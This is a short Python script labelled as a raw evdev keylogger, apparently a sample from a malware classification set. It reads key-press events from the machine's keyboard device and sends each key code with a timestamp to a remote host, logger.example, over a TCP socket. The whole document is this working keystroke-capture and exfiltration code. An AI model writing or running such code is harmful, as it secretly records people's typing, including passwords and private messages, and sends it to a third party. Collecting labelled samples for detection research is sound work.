# class: keylogger; style: evdev raw
import struct
import socket
import glob

EVENT = struct.Struct("llHHI")
device = glob.glob("/dev/input/by-path/*-event-kbd")[0]
out = socket.create_connection(("logger.example", 5140))
with open(device, "rb") as fh:
    while True:
        sec, usec, kind, code, value = EVENT.unpack(fh.read(EVENT.size))
        if kind == 1 and value == 1:
            out.send(b"%d %d\n" % (sec, code))
